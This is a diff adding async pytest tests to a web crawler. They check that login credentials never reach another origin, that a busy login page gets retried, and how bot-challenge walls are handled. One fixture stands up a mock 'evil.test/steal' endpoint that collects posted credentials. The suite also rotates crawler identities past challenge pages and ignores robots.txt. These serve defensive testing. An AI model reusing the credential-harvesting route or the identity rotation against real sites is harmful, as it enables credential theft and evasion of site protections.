@@ -10,6 +10,7 @@ import math
 from pathlib import Path
 
 import pytest
+from aiohttp import web
 
 from crawler.observe.summary import summary
 from tests.helpers.cli import run_cli
@@ -215,3 +216,89 @@ async def test_the_python_api_takes_a_login_hook_as_a_function(site, credentials
     }
     stats = await asyncio.to_thread(crawler.crawl, job, login=log_in)  # its own event loop, in a thread
     assert stats.pages == 3 and members.logins == 1 and calls == [["password", "username"]]
+
+
+@pytest.mark.parametrize("how", ["action", "307"])
+async def test_the_credentials_go_only_to_the_login_pages_origin(site, crawl, credentials, how):
+    """A form whose action, or a 307 answer to the POST, points at another site: the fields are
+    not sent there (the login fails, or goes on as a GET without them)."""
+    received: list[str] = []
+    action = f"http://evil.test:{site.port}/steal" if how == "action" else "/post"
+    site.html(
+        "m.test",
+        "/login",
+        f'<form method="post" action="{action}"><input name="csrf" type="hidden" value="t">'
+        '<input name="username"><input name="password" type="password"></form>',
+    )
+
+    async def onwards(_: web.Request) -> web.Response:
+        return web.Response(status=307, headers={"Location": f"http://evil.test:{site.port}/steal"})
+
+    async def steal(request: web.Request) -> web.Response:
+        received.append(await request.text())
+        return web.Response(text="<p>Sign out</p>", content_type="text/html")
+
+    site.route("m.test", "/post", onwards)
+    site.route("evil.test", "/steal", steal)
+    site.html("m.test", "/members/a", "<p>Sign out</p>", title="member")
+    fields = {"username": "env:CRAWL_USER", "password": "env:CRAWL_PASS"}
+    r = await crawl(
+        start_urls=[site.url("m.test", "/members/a")],
+        resolve=site.pin("m.test", "evil.test"),
+        login={
+            "url": site.url("m.test", "/login"),
+            "fields": fields,
+            "check": {"text": "Sign out"},
+            "covers": "*/members/*",
+        },
+        ignore_robots=True,
+        retries=0,
+    )
+    assert not any(PASSWORD in text or "alice" in text for text in received), received
+    if how == "action":
+        (record,) = r.records
+        assert record["error"]["kind"] == "login" and "not the login page's origin" in record["error"]["message"]
+
+
+async def test_a_busy_login_page_is_retried_not_counted_as_a_failed_login(site, crawl, credentials):
+    members = LoginSite(site, "m.test", "alice", PASSWORD, views=100, pages=4)
+    real, busy = site.routes[("m.test", "/login")], [3]
+
+    async def flaky(request: web.Request) -> web.StreamResponse:
+        if request.method == "GET" and busy[0] > 0:
+            busy[0] -= 1
+            return web.Response(status=503, text="busy")
+        return await real(request)
+
+    site.route("m.test", "/login", flaky)
+    r = await crawl(
+        start_urls=[members.url(f"/members/p{n}") for n in range(4)],
+        resolve=site.pin("m.test"),
+        login=login(members),
+        exclude=["/logout"],
+        ignore_robots=True,
+        per_host=1,
+        retries=5,
+    )
+    assert busy == [0] and members.logins >= 1
+    assert all(rec["error"] is None and rec["status"] == 200 for rec in r.records), [
+        (x["url"], x["status"], x["error"]) for x in r.records
+    ]
+
+
+async def test_a_challenge_page_on_a_covered_url_is_blocked_not_logged_out(site, crawl, credentials):
+    members = LoginSite(site, "m.test", "alice", PASSWORD, views=100, pages=1)
+    site.html("m.test", "/members/wall", "<p>checking your browser</p>", title="Just a moment...")
+    r = await crawl(
+        start_urls=[members.url("/members/wall")],
+        resolve=site.pin("m.test"),
+        identities=2,
+        login=login(members),
+        ignore_robots=True,
+        retries=1,
+    )
+    (record,) = r.records
+    assert record["error"]["kind"] == "blocked"
+    # each attempt met the wall as a new identity (the blocked one retired), logged in once: never
+    # an identity logging in again because the wall looked like a logged-out page
+    assert r.stats.blocked >= 2 and members.logins == r.stats.blocked
